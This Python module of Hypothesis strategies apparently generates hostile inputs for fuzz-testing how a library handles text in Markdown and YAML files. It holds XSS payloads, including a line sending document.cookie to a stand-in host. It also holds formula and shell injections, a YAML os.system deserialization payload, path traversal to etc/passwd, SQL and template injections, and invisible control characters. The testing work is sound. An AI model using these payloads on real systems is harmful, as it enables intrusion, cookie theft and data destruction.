"""Kinds of text by which somebody might harm the library, and every place of a library where text stands.

A kind is a strategy: it varies what attack lists hold one example of each.
"""

from __future__ import annotations

import json
import string
from dataclasses import dataclass

from hypothesis import strategies as st

CASES = st.sampled_from([str.lower, str.upper, str.title, str.swapcase])
BLANKS = st.sampled_from([" ", "/", "\t", "\u00a0", "\n", "  "])
CODE = st.sampled_from(["alert(1)", "alert`1`", "document.location='//x.example/'+document.cookie", "import('//x')"])
PLAIN = st.text(string.ascii_letters + " ", min_size=1, max_size=12)
ELEMENTS = ("script", "img", "svg", "iframe", "object", "embed", "style", "base", "meta", "link", "form", "math", "a")
HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationend", "formaction", "style")
SCHEMES = ("javascript", "data", "vbscript", "file", "blob", "java\tscript", "&#106;avascript", "j%61vascript")
HIDDEN = "\u202e\u2066\u200b\u200d\u2060\ufeff\u00ad\U000e0041\ue000\u2028\x00\x07\x1b\x7f\x9b"
TALL = "\u0300\u0489\u20dd"


@st.composite
def element(draw):
    """An element that runs something, in odd capitals, with odd blanks, perhaps never closed."""
    name = draw(CASES)(draw(st.sampled_from(ELEMENTS)))
    handler, blank = draw(st.sampled_from(HANDLERS)), draw(BLANKS)
    end = draw(st.sampled_from([">", "", "/>", f"></{name}>", "<"]))
    before = draw(st.sampled_from(["", '">', "'>", "</title>", "]]>", "-->", "</textarea>", "`"]))
    return f"{before}<{name}{blank}src=x{blank}{handler}={draw(CODE)}{end}"


@st.composite
def address(draw):
    """A link or picture of Markdown, or a bare address, that leads to a scheme which runs something."""
    target = f"{draw(CASES)(draw(st.sampled_from(SCHEMES)))}:{draw(CODE)}"
    form = draw(st.sampled_from(["[a]({})", "![a]({})", "<{}>", "{}", "[a]: {}", '[a]({} "t")', "[{0}]({0})"]))
    return form.format(target)


def nested():
    """Brackets, quotes and lists in each other, closed or not."""
    opening = st.sampled_from(
        ["[", "(", "<", "{", "*", "_", "`", "> ", "- ", "1. ", "![", "[a](", "<a ", "\\", "|", "&"]
    )
    return st.builds(lambda mark, times, end: mark * times + end, opening, st.integers(1, 400), PLAIN)


def formula():
    """What a sheet would run as a formula, or a shell as a command."""
    start = st.sampled_from(["=", "+", "-", "@", "\t=", "%0A-", '"=', ";", "|", "$(", "`", "&& "])
    call = st.sampled_from(["cmd|' /C calc'!A0", 'HYPERLINK("http://x.example","y")', "1+1", "touch x", "rm -rf ."])
    return st.builds(str.__add__, start, call)


def yaml_trick():
    """What YAML reads as something else than text."""
    return st.sampled_from(
        [
            *(
                "!!python/object/apply:os.system [id]",
                "&a [*a, *a]",
                "*a",
                "<<: {a: b}",
                "{{a: b}: c}",
                "? a",
                "- - - a",
            ),
            *("1e999", ".nan", "0x1F", "0o17", "1_000", "2026-02-30", "12:34:56", "~", "null", "yes", "on", "1.0"),
            *("|\n  a", ">-\n  a", "'", '"', "#", "a: b", "a #b", "%TAG", "---", "...", "[", "{", "!", "@a", "`a`"),
        ]
    )


def path():
    """What leads out of a folder, or to a name that a system keeps for itself."""
    name = st.sampled_from(["etc/passwd", "con", "nul.md", "..", ".git/config", "%2e%2e", "\\\\x\\y", "a" * 300])
    return st.builds(lambda times, end: "../" * times + end, st.integers(0, 20), name)


def template():
    """What a template, a format string or a query language would take for its own."""
    return st.sampled_from(
        [
            *(
                "{{7*7}}",
                "{% for x in y %}",
                "${7*7}",
                "#{7*7}",
                "%(x)s",
                "%n%s",
                "{0.__class__}",
                "<%= 7 %>",
                "{{{x}}}",
            ),
            *(
                "' OR 1=1 --",
                "'; DROP TABLE entries; --",
                '" OR ""="',
                "title:x AND *",
                "[* TO *]",
                "a~99999",
                "a^1e9",
            ),
            *(
                "__proto__",
                "constructor",
                "toString",
                "hasOwnProperty",
                "]]>",
                "<!--",
                "<!DOCTYPE x [<!ENTITY a 'b'>]>",
            ),
        ]
    )


def hidden():
    """Words with characters that are not seen, turn the text round, give orders to a terminal or tower up."""
    odd = st.text(HIDDEN, min_size=1, max_size=4)
    tower = st.integers(1, 300).map(lambda times: "a" + TALL[0] * times)
    return st.one_of(st.builds(lambda a, odd, b: a + odd + b, PLAIN, odd, PLAIN), odd, tower)


def long():
    """Very long words, lines and numbers."""
    piece = st.sampled_from(["a", "0", "<a", "[", "&amp;", "é", "\u6f22", "***\n", "a\n-\n", "|a", "\\\\", "1. "])
    return st.builds(str.__mul__, piece, st.integers(100, 3_000))


KINDS = {
    "element": element(),
    "address": address(),
    "nested": nested(),
    "formula": formula(),
    "yaml": yaml_trick(),
    "path": path(),
    "template": template(),
    "hidden": hidden(),
    "long": long(),
    "any text": st.text(st.characters(exclude_categories=["Cs"]), max_size=40),
}


@dataclass(frozen=True)
class Spot:
    """A place where text stands: the file, the number of the line, and what goes before the text on it."""

    path: str
    line: int
    before: str

    def filled(self, texts, attack, *, quoted):
        """Put a text there: as it is, or as YAML quotes it; gives all texts."""
        lines = texts[self.path].split("\n")
        lines[self.line] = self.before + (json.dumps(attack, ensure_ascii=False) if quoted else attack)
        return {**texts, self.path: "\n".join(lines)}


def spots(texts):
    """Give every line of every file that holds a value, an item of a list, a heading or a sentence."""
    found = []
    for path, text in texts.items():
        for number, line in enumerate(text.split("\n")):
            if not line.strip() or line == "---":
                continue
            key = line.partition(": ")[0]
            marked = line[: len(line) - len(line.lstrip(" -#|"))]
            found.append(Spot(path, number, f"{key}: " if ": " in line and "`" not in key else marked))
    return found
